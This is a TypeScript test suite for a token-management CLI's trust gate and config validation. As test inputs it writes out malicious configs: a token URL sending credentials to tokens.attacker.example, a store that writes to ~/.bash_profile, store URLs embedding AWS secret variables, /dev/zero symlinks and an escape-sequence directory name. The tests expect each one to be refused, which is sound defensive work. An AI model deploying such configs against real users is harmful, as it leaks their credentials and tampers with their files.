import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { startSandbox, DEMO_CREDENTIALS, type Sandbox } from '@tokensmith/sandbox';
import { runBinary, sandboxConfig, sandboxProvider, tempDir, writeConfig } from './helpers.js';

// Issue 26 (1, 2, 8, 9, 10, 11, 20) and the config items of issue 27 (6, 8, 10), attacked through the
// built binary with real files and a real sandbox socket that counts the token requests it receives.

let sandbox: Sandbox;
beforeAll(async () => {
  sandbox = await startSandbox();
});
afterAll(async () => {
  await sandbox.stop();
});

const AWS = 'AWS-SECRET-never-send-51d3';
/** No allow-listed names: the user has allowed nothing yet. */
const untrusting = { TOKENSMITH_TRUSTED_VARIABLES: '' };

/** The sandbox's app with its secret written literally: a config with no `${VAR}` at all. */
function literalApp(options: { tokenUrl?: string } = {}): string {
  return sandboxProvider(sandbox, 'client-credentials', {
    secretRef: DEMO_CREDENTIALS.app.clientSecret,
    user: 'twitterapi',
    ...(options.tokenUrl ? { tokenUrl: options.tokenUrl } : {}),
  });
}

describe('26.1: a working-directory config without variables is still gated on what it decides', () => {
  it('its own store location (file:~/.bash_profile) stops timeline at the trust gate: nothing requested, nothing written', async () => {
    const dir = tempDir();
    const path = writeConfig(dir, sandboxConfig([literalApp()], { store: '"file:~/.bash_profile"' }));
    const before = sandbox.stats.tokenRequests;
    const result = await runBinary(['timeline', 'app'], { cwd: dir, env: untrusting });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`${path} (found in the working directory) keeps tokens in the file ~/.bash_profile`);
    expect(result.stderr).toContain('run: tokensmith trust');
    expect(sandbox.stats.tokenRequests).toBe(before);
    expect(existsSync(join(dir, '.bash_profile'))).toBe(false);
  });

  it('a URL off this machine needs trust before anything is sent, even with every variable allow-listed for CI', async () => {
    const dir = tempDir();
    const path = writeConfig(
      dir,
      sandboxConfig([
        sandboxProvider(sandbox, 'client-credentials', { secretRef: '${CI_SECRET}', tokenUrl: 'https://tokens.attacker.example/token' }),
      ]),
    );
    const result = await runBinary(['token', 'app'], {
      cwd: dir,
      env: { TOKENSMITH_TRUSTED_VARIABLES: 'CI_SECRET', CI_SECRET: 'ci-value' },
    });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`${path} (found in the working directory) sends credentials and tokens to tokens.attacker.example`);
    expect(result.stderr).toContain('tokensmith trust');
  });

  it('a store URL holding a variable can be trusted (nothing substituted while trusting)', async () => {
    const dir = tempDir();
    writeConfig(dir, sandboxConfig([literalApp()], { store: '"redis://:${REDIS_PASSWORD}@127.0.0.1:9/0"' }));
    const trusted = await runBinary(['trust'], { cwd: dir, env: untrusting });
    expect(trusted.code).toBe(0);
    expect(trusted.stderr).toContain('keeps tokens in the store at 127.0.0.1:9');
  });

  it('once trusted, the same file is used; --config PATH is trusted as the user named it', async () => {
    const dir = tempDir();
    const path = writeConfig(dir, sandboxConfig([literalApp()], { store: `"file:${join(dir, 'own-tokens.json')}"` }));
    const explicit = await runBinary(['--config', path, 'timeline', 'app', '--count', '1'], { cwd: dir, env: untrusting });
    expect(explicit.code).toBe(0);
    expect((await runBinary(['trust'], { cwd: dir, env: untrusting })).stderr).toContain(
      `keeps tokens in the file ${join(dir, 'own-tokens.json')}`,
    );
    const used = await runBinary(['timeline', 'app', '--count', '1'], { cwd: dir, env: untrusting });
    expect(used.code).toBe(0);
    expect(existsSync(join(dir, 'own-tokens.json'))).toBe(true);
  });
});

describe('26.2 and 26.8: nothing is substituted before the trust gate, and no error quotes a substituted value', () => {
  let listener: Server;
  let received = '';
  let port = 0;
  beforeAll(async () => {
    listener = createServer((socket) => socket.on('data', (chunk) => (received += String(chunk))));
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as { port: number }).port;
  });
  afterAll(async () => {
    await new Promise((resolve) => listener.close(resolve));
  });

  it.each([
    ['a redis store', () => `"redis://:\${AWS_SECRET_ACCESS_KEY}@127.0.0.1:${port}/0"`],
    ['a file store', () => `"file:/tmp/\${AWS_SECRET_ACCESS_KEY}.json"`],
  ])('status with %s naming a secret: refused at the gate, the secret neither printed nor sent', async (_kind, store) => {
    const dir = tempDir();
    writeConfig(dir, sandboxConfig([literalApp()], { store: store() }));
    const result = await runBinary(['status'], { cwd: dir, env: { ...untrusting, AWS_SECRET_ACCESS_KEY: AWS } });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('tokensmith trust');
    expect(result.stdout + result.stderr).not.toContain(AWS);
    expect(received).not.toContain(AWS);
  });

  it.each([['providers'], ['status'], ['token', 'app']])(
    'timeline: "${AWS_SECRET_ACCESS_KEY}" in an untrusted file: `%s` never prints the secret',
    async (...argv) => {
      const dir = tempDir();
      // A string where an object belongs: valibot's own message quotes what it received.
      writeConfig(dir, sandboxConfig([literalApp().replace(/timeline: .*/, 'timeline: "${AWS_SECRET_ACCESS_KEY}"')], { store: 'memory' }));
      const result = await runBinary(argv, { cwd: dir, env: { ...untrusting, AWS_SECRET_ACCESS_KEY: AWS } });
      expect(result.stdout + result.stderr).not.toContain(AWS);
    },
  );

  it('a trusted file (--config) whose variable makes a field invalid names the field and the variable, never the value', async () => {
    const dir = tempDir();
    const path = writeConfig(dir, sandboxConfig([literalApp({ tokenUrl: '${TOKEN_ENDPOINT}' })], { store: 'memory' }));
    const result = await runBinary(['--config', path, 'token', 'app'], { cwd: dir, env: { TOKEN_ENDPOINT: `not a url ${AWS}` } });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('providers.app.tokenUrl:');
    expect(result.stderr).toContain('(value from ${TOKEN_ENDPOINT}, not shown)');
    expect(result.stderr).not.toContain(AWS);
  });
});

describe('26.9 and 26.11: the config is read once, as a regular file of bounded size', () => {
  it.each([
    ['a symlink to /dev/zero', (path: string) => symlinkSync('/dev/zero', path), 'is a device, not a regular file'],
    ['a FIFO', (path: string) => execFileSync('mkfifo', [path]), 'is a named pipe (FIFO), not a regular file'],
    ['a 1 GiB sparse file', (path: string) => (writeFileSync(path, ''), truncateSync(path, 1024 ** 3)), 'is larger than 1024 KiB'],
    ['a directory', (path: string) => mkdirSync(path), 'is a directory'],
  ])('%s as tokensmith.config.yaml is refused at once, exit 1', async (_kind, make, expected) => {
    const dir = tempDir();
    const path = join(dir, 'tokensmith.config.yaml');
    make(path);
    const result = await runBinary(['token', 'app'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`${path} ${expected}`);
  });

  it('-c <a directory> says it is a directory (not EISDIR)', async () => {
    const dir = tempDir();
    const result = await runBinary(['-c', dir, 'token', 'app'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`${dir} is a directory; --config takes the path of a config file`);
    expect(result.stderr).not.toContain('EISDIR');
  });
});

describe('26.10: an empty or relative HOME never makes the working directory the user config dir', () => {
  it.each([[''], ['.'], ['repo']])('HOME=%j: refused naming HOME and the fix; the planted .config is not read', async (home) => {
    const dir = tempDir();
    mkdirSync(join(dir, 'repo', '.config', 'tokensmith'), { recursive: true });
    mkdirSync(join(dir, '.config', 'tokensmith'), { recursive: true });
    for (const base of [dir, join(dir, 'repo')])
      writeConfig(join(base, '.config', 'tokensmith'), sandboxConfig([literalApp()], { store: 'memory' }), 'config.yaml');
    const before = sandbox.stats.tokenRequests;
    const result = await runBinary(['token', 'app'], { cwd: dir, env: { HOME: home, XDG_CONFIG_HOME: undefined } });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('HOME is ');
    expect(result.stderr).toContain('set HOME to your home directory');
    expect(sandbox.stats.tokenRequests).toBe(before);
  });
});

describe('26.20: the working directory path reaches the terminal neutralised', () => {
  it('a directory named with ESC[8m: the trust refusal and the `using` line show it escaped', async () => {
    const dir = join(tempDir(), 'repo\u001b[8m-hidden');
    mkdirSync(dir);
    writeConfig(
      dir,
      sandboxConfig([sandboxProvider(sandbox, 'client-credentials', { secretRef: '${AWS_SECRET_ACCESS_KEY}' })], { store: 'memory' }),
    );
    const env = { ...untrusting, AWS_SECRET_ACCESS_KEY: DEMO_CREDENTIALS.app.clientSecret };
    const refused = await runBinary(['token', 'app'], { cwd: dir, env });
    expect(refused.code).toBe(1);
    expect(refused.stderr).not.toContain('\u001b');
    expect(refused.stderr).toContain('repo\\x1b[8m-hidden');
    expect((await runBinary(['trust'], { cwd: dir, env })).stderr).not.toContain('\u001b');
    const used = await runBinary(['token', 'app'], { cwd: dir, env });
    expect(used.code).toBe(0);
    expect(used.stderr).toContain('using ');
    expect(used.stderr).not.toContain('\u001b');
  });
});

describe('27.6: parse errors keep their place', () => {
  it('YAML: the message, line and column, the offending line and a caret; no dangling colon', async () => {
    const dir = tempDir();
    const path = writeConfig(dir, 'providers:\n  app:\n    strategy: client-credentials\n    tokenUrl: [unclosed\n');
    const result = await runBinary(['token', 'app'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(new RegExp(`${path} is not valid YAML: .+ \\(line \\d+, column \\d+\\)\\n`));
    expect(result.stderr).not.toMatch(/:\n/);
    expect(result.stderr).toMatch(/\n {4}.*\n {4} *\^/);
  });

  it('JSON: line and column instead of "position N", with the line and a caret under the column', async () => {
    const dir = tempDir();
    const path = writeConfig(
      dir,
      '{\n  "providers": {\n    "app": { "strategy": "client-credentials", }\n  }\n}\n',
      'tokensmith.config.json',
    );
    const result = await runBinary(['token', 'app'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`${path} is not valid JSON: `);
    expect(result.stderr).toContain('(line 3, column 48)');
    expect(result.stderr).not.toContain('position');
    expect(result.stderr).toContain('\n        "app": { "strategy": "client-credentials", }\n');
    expect(result.stderr).toContain(`\n    ${' '.repeat(47)}^`);
  });

  it('a line holding a literal secret shows the field, not the value', async () => {
    const dir = tempDir();
    writeConfig(dir, `providers:\n  app:\n    clientSecret: ${AWS}"\n    strategy: [x\n`);
    const result = await runBinary(['token', 'app'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).not.toContain(AWS);
  });
});

describe('27.8: config messages say what is true', () => {
  it('an exported but empty variable is reported as empty, not as not set', async () => {
    const dir = tempDir();
    const path = writeConfig(dir, sandboxConfig([sandboxProvider(sandbox, 'client-credentials')], { store: 'memory' }));
    const result = await runBinary(['--config', path, 'token', 'app'], { cwd: dir, env: { APP_SECRET: '' } });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('needs environment variable APP_SECRET, which is set but empty');
  });

  it('trust missing.yaml names the file, not a --config nobody gave', async () => {
    const dir = tempDir();
    const result = await runBinary(['trust', 'missing.yaml'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`${join(dir, 'missing.yaml')} does not exist`);
    expect(result.stderr).not.toContain('--config');
  });

  it('an edited trusted file says it changed since it was trusted', async () => {
    const dir = tempDir();
    const path = writeConfig(
      dir,
      sandboxConfig([sandboxProvider(sandbox, 'client-credentials', { secretRef: '${AWS_SECRET_ACCESS_KEY}' })], { store: 'memory' }),
    );
    const env = { ...untrusting, AWS_SECRET_ACCESS_KEY: AWS };
    expect((await runBinary(['trust'], { cwd: dir, env })).code).toBe(0);
    writeFileSync(path, readFileSync(path, 'utf8') + '# edited\n');
    const result = await runBinary(['token', 'app'], { cwd: dir, env });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      `${path} (found in the working directory) has changed since you trusted it; it sends environment variable AWS_SECRET_ACCESS_KEY`,
    );
  });

  it('did you mean: an unknown provider name and an unknown config key', async () => {
    const dir = tempDir();
    const path = writeConfig(dir, sandboxConfig([literalApp()], { store: 'memory' }));
    const provider = await runBinary(['--config', path, 'token', 'ap'], { cwd: dir });
    expect(provider.stderr).toContain('unknown provider ap (did you mean app?); configured: app');
    writeConfig(dir, sandboxConfig([literalApp().replace('tokenUrl:', 'tokenUlr:')], { store: 'memory' }));
    const key = await runBinary(['--config', path, 'token', 'app'], { cwd: dir });
    expect(key.code).toBe(1);
    expect(key.stderr).toContain('providers.app: unknown field tokenUlr (did you mean tokenUrl?)');
  });
});

describe('27.10: init, then the command it names, works without a trust stop', () => {
  it('init writes and trusts the working-directory config, and names the next command, which passes the trust gate', async () => {
    const dir = tempDir();
    const init = await runBinary(['init', '--strategy', 'oauth1-pin'], { cwd: dir, env: untrusting });
    expect(init.code).toBe(0);
    expect(init.stderr).toContain('export TWITTER_API_KEY=... TWITTER_API_SECRET=..., then run: tokensmith login twitter-user');
    const env = { ...untrusting, TWITTER_API_KEY: 'key', TWITTER_API_SECRET: 'secret' };
    // --pin with no pending login stops before any request: it shows the gate was passed, offline.
    const next = await runBinary(['login', 'twitter-user', '--pin', '1234567'], { cwd: dir, env });
    expect(next.stderr).not.toContain('tokensmith trust');
    expect(next.stderr).toContain('no pending login for twitter-user');
  });

  it('init --output elsewhere names the --config the next command needs and trusts nothing', async () => {
    const dir = tempDir();
    const init = await runBinary(['init', '--output', 'work.yaml'], { cwd: dir, env: untrusting });
    expect(init.code).toBe(0);
    expect(init.stderr).toContain(`then run: tokensmith --config ${join(dir, 'work.yaml')} login twitter`);
    expect(existsSync(join(dir, '.config', 'tokensmith', 'trust.json'))).toBe(false);
  });
});

describe('27.15: a command validates the provider it uses (and the default one), the listing commands all of them', () => {
  const broken = '  broken:\n    strategy: client-credentials\n    clientId: x\n    tokenUlr: http://127.0.0.1:9/token\n';

  it('a broken unrelated provider does not stop token <good one>; token broken and providers report it', async () => {
    const dir = tempDir();
    writeConfig(dir, sandboxConfig([literalApp(), broken], { store: 'memory' }));
    const good = await runBinary(['token', 'app'], { cwd: dir });
    expect(good.stderr).not.toContain('broken');
    expect(good.code).toBe(0);
    expect(good.stdout.trim()).not.toBe('');
    for (const argv of [['token', 'broken'], ['providers']]) {
      const result = await runBinary(argv, { cwd: dir });
      expect(result.code).toBe(1);
      expect(result.stderr).toContain('providers.broken: unknown field tokenUlr (did you mean tokenUrl?)');
    }
  });

  it('the default provider is validated even when another is named', async () => {
    const dir = tempDir();
    writeConfig(dir, sandboxConfig([literalApp(), broken], { store: 'memory', defaultProvider: 'broken' }));
    const result = await runBinary(['token', 'app'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('providers.broken: unknown field tokenUlr');
  });
});
